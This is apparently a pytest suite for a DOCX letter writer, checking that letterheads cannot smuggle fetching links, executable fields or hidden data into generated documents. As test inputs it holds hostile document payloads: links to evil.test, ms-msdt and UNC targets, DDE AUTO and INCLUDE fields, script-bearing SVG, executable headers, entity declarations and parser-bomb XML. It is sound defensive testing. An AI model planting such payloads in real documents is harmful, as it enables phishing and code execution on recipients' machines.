"""What a letterhead could smuggle into a paper that a bank opens: links that fetch, fields that run, hidden data."""

from __future__ import annotations

import io
import struct
import time
import zlib

import docx
import pytest

from negotiation_docs.errors import OutputError
from negotiation_docs.writers.docx import to_docx
from tests.make.letters import letter
from tests.read.docx import parts
from tests.word.test_letterhead import packed

KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = {
    "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "w14": "http://schemas.microsoft.com/office/word/2010/wordml",
    "r": KINDS,
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
}
SECRET = "机密"


def sound() -> dict[str, bytes]:
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "示例律师事务所"
    out = io.BytesIO()
    made.save(out)
    contents = parts(out.getvalue())
    types = contents["[Content_Types].xml"].replace(
        b"<Override", b'<Default Extension="bin" ContentType="image/png"/><Override', 1
    )
    return contents | {"[Content_Types].xml": types}


def headed(inside: str, *relationships: tuple[str, str, str], **more: bytes) -> bytes:
    """A letterhead with ``inside`` in its header; relationships are id, kind and target, an address or a part."""
    names = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMES.items())
    told = "".join(_relationship(*each) for each in relationships)
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'
    made = {"word/header1.xml": f"<w:hdr {names}>{inside}</w:hdr>", "word/_rels/header1.xml.rels": rels}
    return packed(sound() | {name: text.encode() for name, text in made.items()} | {"word/media/x.bin": b"", **more})


def _relationship(key: str, kind: str, target: str) -> str:
    outside = ' TargetMode="External"' if ":" in target or target.startswith("\\") else ""
    return f'<Relationship Id="{key}" Type="{KINDS}/{kind}" Target="{target}"{outside}/>'


def said(base: bytes) -> str:
    """Everything in the parts of a paper on this letterhead that came from it."""
    made = parts(to_docx(letter(), base=base))
    return "".join(made[name].decode("utf-8", "replace") for name in made if "header" in name or "media" in name)


def field(*codes: str) -> str:
    told = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{told}{middle}<w:r><w:t>果</w:t></w:r>{end}"


def drawn(attributes: str) -> str:
    return f"<w:p><w:r><w:drawing><a:graphic><a:blip {attributes}/></a:graphic></w:drawing></w:r></w:p>"


AS_PICTURE = 'r:link="rId1"'
LINK = ("rId1", "hyperlink", f"http://evil.test/{SECRET}")


@pytest.mark.parametrize(
    "inside",
    [
        drawn(AS_PICTURE),
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:href="rId1"/></v:shape></w:pict></w:r></w:p>',
        '<w:p><w:r><w:pict><v:rect><v:fill r:id="rId1"/></v:rect></w:pict></w:r></w:p>',
        '<w:p><w:r><w:object><o:OLEObject Type="Link" UpdateMode="Always" r:id="rId1"/></w:object></w:r></w:p>',
        f'<w:p><w:hyperlink r:id="rId1"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>{drawn(AS_PICTURE)}',
    ],
)
def test_a_link_serves_as_a_link_alone_and_fetches_nothing(inside):
    made = said(headed(inside, LINK))
    assert "evil.test" not in made
    assert "OLEObject" not in made


@pytest.mark.parametrize(
    "target", ["file:////evil.test/x", "\\\\evil.test\\x", "ms-msdt:/id evil.test", "C:\\evil.test"]
)
def test_a_link_leads_to_an_address_and_to_no_file_share_or_program(target):
    shown = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
    assert "evil.test" not in said(headed(shown, ("rId1", "hyperlink", target)))
    kept = parts(to_docx(letter(), base=headed(shown, ("rId1", "hyperlink", "https://a.test"))))
    assert b"https://a.test" in kept["word/_rels/header1.xml.rels"]


FETCHING = ("INC", "LUDE", ' "http://evil.test"'), ("DDE", "AUTO c"), ('HYPERLINK "\\\\\\\\evil\\\\x"',), ("import x",)
OTHERS = ("MACROBUTTON x y",), ("FILLIN x",), ("AUTOTEXT x",), (f"{SECRET} cmd",)


@pytest.mark.parametrize("codes", [*FETCHING, *OTHERS])
@pytest.mark.parametrize("tag", ["instrText", "delInstrText"])
def test_a_field_that_fetches_runs_or_asks_is_refused_and_its_words_are_not_told(codes, tag):
    with pytest.raises(OutputError, match="外部内容" if codes in FETCHING else "不能使用的域") as caught:
        said(headed(f"<w:p>{field(*codes).replace('instrText', tag)}</w:p>"))
    assert SECRET not in str(caught.value)


def test_a_field_whose_name_another_field_makes_is_refused():
    inner = field(" QUOTE 68 68 69 ")
    with pytest.raises(OutputError, match="不能使用的域"):
        said(headed(f"<w:p>{field('@@', ' PAGE').replace('<w:r><w:instrText>@@</w:instrText></w:r>', inner)}</w:p>"))


@pytest.mark.parametrize(
    "code", ["PAGE", ' DATE \\@ "yyyy"', "= 2 + 3", 'HYPERLINK "https://a.test"', "HYPERLINK \\l x"]
)
def test_a_field_that_counts_dates_or_links_stays(code):
    assert code.strip() in said(headed(f"<w:p>{field(code)}</w:p>"))


@pytest.mark.parametrize(
    "inside",
    [
        f'<w:customXmlInsRangeStart w:id="1" w:author="{SECRET}"/>',
        f'<w14:conflictIns w:id="1" w:author="{SECRET}"><w:r><w:t>a</w:t></w:r></w14:conflictIns>',
        f'<w:smartTag w:element="a"><w:smartTagPr><w:attr w:name="a" w:val="{SECRET}"/></w:smartTagPr></w:smartTag>',
        f'<w:sdt><w:sdtPr><w:tag w:val="{SECRET}"/><w:alias w:val="{SECRET}"/></w:sdtPr><w:sdtContent/></w:sdt>',
        f'<w:r><w:fldChar w:fldCharType="begin"><w:fldData>{SECRET}</w:fldData></w:fldChar></w:r>',
        f'<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="{SECRET}"/></w:ffData></w:fldChar></w:r>',
        f"<?{SECRET} a?><!-- {SECRET} -->",
    ],
)
def test_what_a_header_holds_unseen_stays_behind(inside):
    assert SECRET not in said(headed(f"<w:p>{inside}<w:r><w:t>名称</w:t></w:r></w:p>"))


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (head, *(chunk(*each) for each in chunks), chunk(b"IDAT", zlib.compress(b"\0\0")), chunk(b"IEND", b""))
    )


def test_a_png_keeps_what_is_shown_of_it():
    told = [(kind, SECRET.encode()) for kind in (b"tEXt", b"iTXt", b"eXIf", b"tIME")]
    image = png((b"gAMA", b"\0\0\xb1\x8f"), *told) + SECRET.encode()
    base = headed(drawn('r:embed="rId1"'), ("rId1", "image", "media/x.bin"), **{"word/media/x.bin": image})
    assert png((b"gAMA", b"\0\0\xb1\x8f")) in parts(to_docx(letter(), base=base)).values()


@pytest.mark.parametrize("data", [b"MZ\x90", b"<svg><script/></svg>", b"%PDF-1.7", b"PK\3\4", b""])
def test_what_is_no_picture_is_not_carried_as_one(data):
    base = headed(drawn('r:embed="rId1"'), ("rId1", "image", "media/x.bin"), **{"word/media/x.bin": data})
    with pytest.raises(OutputError, match="不认识的图片"):
        to_docx(letter(), base=base)


def test_a_document_type_hides_in_no_part_whatever_its_name():
    contents = sound()
    kind = 'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"'
    for name, old, new in (
        ("[Content_Types].xml", "</Types>", f'<Override PartName="/word/H.dat" {kind}/></Types>'),
        ("word/_rels/document.xml.rels", "header1.xml", "h.dat"),
    ):
        contents[name] = contents[name].decode().replace(old, new).encode()
    contents["word/h.dat"] = f'<!DOCTYPE a [<!ENTITY b "c">]><w:hdr xmlns:w="{NAMES["w"]}"/>'.encode()
    with pytest.raises(OutputError, match="实体声明"):
        to_docx(letter(), base=packed(contents))


@pytest.mark.parametrize(
    ("inside", "told"),
    [
        ("<w:p/>" * 400_100, "内容太多"),
        ('<a xmlns="b"/>' * 5_100, "内容太多"),
        (f"<w:p><w:r><w:t>{'a' * (21 << 20)}</w:t></w:r></w:p>", "内容太多"),
        ("<w:p " + " ".join(f'a{number}=">"' for number in range(1100)) + "/>", "不是完好的 DOCX"),
    ],
    ids=["elements", "namespaces", "text", "attributes"],
)
def test_a_letterhead_that_swells_when_it_is_read_is_refused_before_it_is_read(inside, told):
    with pytest.raises(OutputError, match=told):
        to_docx(letter(), base=headed(inside))


@pytest.mark.parametrize(
    "inside",
    ['<w:p><w:bookmarkStart w:id="1"/></w:p>' * 60_000, "<w:p>" * 200 + "<w:t/>" * 20_000 + "</w:p>" * 200],
    ids=["in a row", "inside each other"],
)
def test_the_elements_of_a_letterhead_take_time_in_proportion_to_their_number(inside):
    name, place = "word/document.xml", "<w:p><w:r><w:t>【正文】</w:t></w:r></w:p>"
    contents = sound()
    contents[name] = contents[name].decode().replace("<w:body>", f"<w:body>{place}{inside}").encode()
    began = time.process_time()
    to_docx(letter(), base=packed(contents))
    assert time.process_time() - began < 8  # it was twelve seconds and more, and four times that for twice as many
